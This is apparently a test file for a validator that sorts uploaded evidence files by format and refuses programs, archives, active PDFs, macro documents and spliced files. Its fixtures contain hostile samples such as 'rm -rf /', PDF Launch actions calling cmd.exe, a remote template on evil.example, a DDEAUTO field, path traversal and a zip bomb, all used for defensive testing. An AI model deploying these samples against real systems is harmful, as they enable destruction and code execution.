import fc from 'fast-check'
import { expect, test } from 'vitest'
import { workbookBytes } from '../fixtures/catalog.ts'
import { compoundOf } from '../fixtures/compound.ts'
import { docOf, docxOf, objectStream, ofdOf, pdfOf } from '../fixtures/evidence/papers.ts'
import { jpegOf, pngOf, webpOf } from '../fixtures/evidence/pictures.ts'
import { gbk } from '../fixtures/gbk.ts'
import { zipOf } from '../fixtures/zip.ts'
import { evidenceFormat } from './evidence-format.ts'
import { type UnfitCode, UnfitEvidenceError } from './unfit-evidence.ts'

const megabyte = 1_048_576
const text = (words: string) => Buffer.from(words)
const behind = (first: Uint8Array, second: Uint8Array) => Buffer.concat([first, second])
const cut = (bytes: Uint8Array, by = 30) => bytes.subarray(0, bytes.length - by)
const page = text('<html><script>alert(1)</script></html>')
const archive = zipOf([{ name: 'a.txt', data: 'x' }])
const beginning = [0x09, 0x08, 0x04, 0x00, 0x00, 0x06, 0x05, 0x00]
const withPassword = Buffer.from([...beginning, 0x2f, 0x00, 0x02, 0x00, 0x01, 0x00])

test.each([
  ['a PDF', 'pdf', pdfOf()],
  ['a PDF with objects in a stream', 'pdf', pdfOf(objectStream('4 0 <</Type/Font/BaseFont/SimSun>>'))],
  [
    'a PDF whose pictures happen to hold the name of a script',
    'pdf',
    pdfOf('5 0 obj<<>>stream\n/JS (\nendstream endobj\n'),
  ],
  ['a Word document', 'docx', docxOf()],
  ['a workbook as an office made it', 'xlsx', workbookBytes('12-suqian-hubin')],
  ['an OFD', 'ofd', ofdOf()],
  ['an old Word document, or one of WPS', 'doc', docOf()],
  ['an old workbook', 'xls', compoundOf(['Workbook'])],
  ['a PNG', 'png', pngOf()],
  ['a JPEG', 'jpeg', jpegOf()],
  ['a JPEG of a phone, with a preview behind it', 'jpeg', behind(jpegOf(), jpegOf())],
  ['a WebP', 'webp', webpOf()],
  ['a text in UTF-8', 'text', text('关于公布招生计划的说明\r\n')],
  ['a text in GBK', 'text', gbk('关于公布招生计划的说明')],
] as const)('%s is taken as %s, whatever it is called', async (_, format, bytes) => {
  expect(await evidenceFormat(bytes)).toBe(format)
})

const refused: readonly (readonly [string, UnfitCode, Uint8Array])[] = [
  ['an empty file', 'EMPTY', text('')],
  ['a text of blanks', 'EMPTY', text(' \r\n\t')],
  ['a file of 20 MB and one byte', 'TOO_LARGE', Buffer.alloc(20 * megabyte + 1, 'x')],
  ['a Windows program', 'PROGRAM', Buffer.from('MZ\x90\0\x03\0', 'latin1')],
  ['a Linux program called 批复.pdf', 'PROGRAM', Buffer.from('\x7fELF\x02\x01', 'latin1')],
  ['a shortcut of Windows', 'PROGRAM', Buffer.from('L\0\0\0\x01\x14\x02\0', 'latin1')],
  ['a shell script', 'PROGRAM', text('#!/bin/sh\nrm -rf /\n')],
  ['a batch file', 'PROGRAM', text('@echo off\r\ndel *.*\r\n')],
  ['a script of Windows', 'PROGRAM', text('Set a = CreateObject("WScript.Shell")\r\n')],
  ['a page', 'WEB_PAGE', page],
  ['a page behind a paragraph of text', 'WEB_PAGE', text(`说明如下。\n${'字'.repeat(5_000)}<script>alert(1)</script>`)],
  ['an SVG', 'WEB_PAGE', text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['some XML', 'WEB_PAGE', text('<invoice><total>1</total></invoice>')],
  ['a .zip', 'ARCHIVE', archive],
  ['a .rar', 'ARCHIVE', text('Rar!\x1a\x07\x01')],
  ['a .7z', 'ARCHIVE', Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1')],
  ['a .gz', 'ARCHIVE', Buffer.from('\x1f\x8b\x08\0', 'latin1')],
  ['an .rtf that calls itself .doc', 'OTHER_FORMAT', text('{\\rtf1\\ansi 说明}')],
  ['a GIF', 'OTHER_FORMAT', text('GIF89a')],
  ['a video', 'OTHER_FORMAT', Buffer.from('\0\0\0\x18ftypmp42', 'latin1')],
  ['a mail', 'OTHER_FORMAT', text('From: a\r\nSubject: b\r\n\r\n')],
  [
    'a presentation',
    'OTHER_FORMAT',
    zipOf([
      { name: '[Content_Types].xml', data: '<Types/>' },
      { name: 'ppt/presentation.xml', data: '<p/>' },
    ]),
  ],
  ['an ODF document', 'OTHER_FORMAT', zipOf([{ name: 'content.xml', data: '<office/>' }])],
  [
    'bytes without any sense',
    'TEXT_NOT_READABLE',
    Buffer.from(Array.from({ length: 4_096 }, (_, n) => (n * 37) % 256)),
  ],
  ['a text that is cut off within a character', 'TEXT_NOT_READABLE', cut(text('关于公布招生计划的说明'), 1)],

  ['a PDF that is cut off', 'BROKEN', cut(pdfOf())],
  ['the first line of a PDF', 'BROKEN', text('%PDF-1.7\n')],
  ['a PDF with a password', 'ENCRYPTED', pdfOf('', '/Encrypt 5 0 R')],
  ['a PDF with a script', 'ACTIVE_PDF', pdfOf('5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n')],
  ['a PDF whose script hides behind an escaped name', 'ACTIVE_PDF', pdfOf('5 0 obj<</S/J#61vaScript>>endobj\n')],
  ['a PDF whose script hides in a compressed stream', 'ACTIVE_PDF', pdfOf(objectStream('5 0 <</S/JavaScript>>'))],
  ['a PDF that starts a program', 'ACTIVE_PDF', pdfOf('5 0 obj<</S/Launch/F(cmd.exe)>>endobj\n')],
  ['a PDF with a file in it', 'ACTIVE_PDF', pdfOf('5 0 obj<</Type/EmbeddedFile>>endobj\n')],
  ['a PDF whose objects inflate without end', 'INFLATES_TOO_FAR', pdfOf(objectStream(' '.repeat(33 * megabyte)))],
  ['a PDF with a page behind it', 'SPLICED', behind(pdfOf(), page)],
  ['a PDF that is an archive as well', 'SPLICED', behind(pdfOf('%'), archive)],

  ['a Word document that is cut off', 'BROKEN', cut(docxOf())],
  ['a Word document with a wrong check sum', 'BROKEN', docxOf({ name: 'word/media/a.png', data: 'x', crc: 1 })],
  ['a Word document with the same part twice', 'BROKEN', docxOf({ name: 'word/document.xml', data: '<w:document/>' })],
  ['a Word document with a password', 'ENCRYPTED', compoundOf(['EncryptionInfo', 'EncryptedPackage'])],
  ['an encrypted part', 'ENCRYPTED', docxOf({ name: 'word/a.xml', data: 'x', flags: 1 })],
  ['a Word document with macros', 'MACROS', docxOf({ name: 'word/vbaProject.bin', data: 'vba' })],
  [
    'a macro document renamed',
    'MACROS',
    docxOf({ name: 'docProps/a.xml', data: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ],
  ['a workbook with old macro sheets', 'MACROS', docxOf({ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' })],
  ['a document with a program in it', 'EMBEDDED', docxOf({ name: 'word/embeddings/oleObject1.bin', data: 'x' })],
  ['a document with controls', 'EMBEDDED', docxOf({ name: 'word/activeX/activeX1.xml', data: '<ax/>' })],
  [
    'a document that draws its template from a site',
    'EMBEDDED',
    docxOf({
      name: 'word/_rels/settings.xml.rels',
      data: '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>',
    }),
  ],
  [
    'a document with a field that runs by itself',
    'EMBEDDED',
    docxOf({ name: 'word/footer1.xml', data: '<w:instrText>DDEAUTO cmd</w:instrText>' }),
  ],
  ['a document with entities', 'EMBEDDED', docxOf({ name: 'word/a.xml', data: '<!DOCTYPE a [<!ENTITY b "c">]>' })],
  ['a path out of the archive', 'BROKEN', docxOf({ name: '../../etc/cron.d/x', data: 'x' })],
  ['a zip bomb', 'INFLATES_TOO_FAR', docxOf({ name: 'word/media/a.png', data: Buffer.alloc(30 * megabyte) })],
  ['a document and a workbook in one', 'SPLICED', docxOf({ name: 'xl/workbook.xml', data: '<workbook/>' })],
  ['a document and an OFD in one', 'SPLICED', ofdOf({ name: 'word/document.xml', data: '<w:document/>' })],
  ['a page behind a document', 'SPLICED', behind(docxOf(), page)],

  ['an old workbook with a password', 'ENCRYPTED', compoundOf(['Workbook'], withPassword)],
  ['an old workbook with macros', 'MACROS', compoundOf(['Workbook', '_VBA_PROJECT_CUR'])],
  ['an old Word document with a password', 'ENCRYPTED', docOf(0x0100)],
  ['an old Word document with macros', 'MACROS', compoundOf(['WordDocument', 'Macros'])],
  ['an old document with a file in it', 'EMBEDDED', compoundOf(['WordDocument', '\u0001Ole10Native'])],
  ['an old presentation', 'OTHER_FORMAT', compoundOf(['PowerPoint Document'])],
  ['the first bytes of an old document', 'BROKEN', docOf().subarray(0, 20)],
  ['an old document and an archive in one', 'SPLICED', behind(docOf(), archive)],

  ['a PNG that is cut off', 'BROKEN', cut(pngOf(), 8)],
  ['a PNG with a page behind it', 'SPLICED', behind(pngOf(), page)],
  ['a PNG of a thousand million pixels', 'INFLATES_TOO_FAR', pngOf(32_000)],
  ['a JPEG that is cut off', 'BROKEN', cut(jpegOf(), 2)],
  ['a JPEG with an archive behind it', 'SPLICED', behind(jpegOf(), archive)],
  ['a JPEG with a JPEG and an archive behind it', 'SPLICED', Buffer.concat([jpegOf(), jpegOf(), archive])],
  ['a WebP that is cut off', 'BROKEN', cut(webpOf(), 4)],
  ['a WebP with a page behind it', 'SPLICED', behind(webpOf(), page)],
]

test.each(refused)('%s is refused as %s, with a sentence', async (_, code, bytes) => {
  const error = await evidenceFormat(bytes).then(
    (format) => format,
    (reason: unknown) => reason,
  )
  expect(error).toBeInstanceOf(UnfitEvidenceError)
  expect(error).toMatchObject({ code, message: expect.stringMatching(/[。]$/) })
})

test('whatever bytes come, and wherever a good file is cut or changed, it is a format or a sentence, never a fault', async () => {
  const good = fc.constantFrom(pdfOf(objectStream('1 0 <<>>')), docxOf(), ofdOf(), docOf(), pngOf(), jpegOf(), webpOf())
  const spoiled = fc.tuple(good, fc.nat(), fc.nat(255), fc.boolean()).map(([bytes, at, byte, cuts]) => {
    const place = at % bytes.length
    if (cuts) return bytes.subarray(0, place)
    const copy = Buffer.from(bytes)
    copy[place] = byte
    return copy
  })
  await fc.assert(
    fc.asyncProperty(fc.oneof(spoiled, fc.uint8Array({ maxLength: 400 })), async (bytes) => {
      const answer = await evidenceFormat(bytes).catch((error: unknown) => error)
      expect(typeof answer === 'string' || answer instanceof UnfitEvidenceError, String(answer)).toBe(true)
    }),
    { numRuns: 1_500 },
  )
})
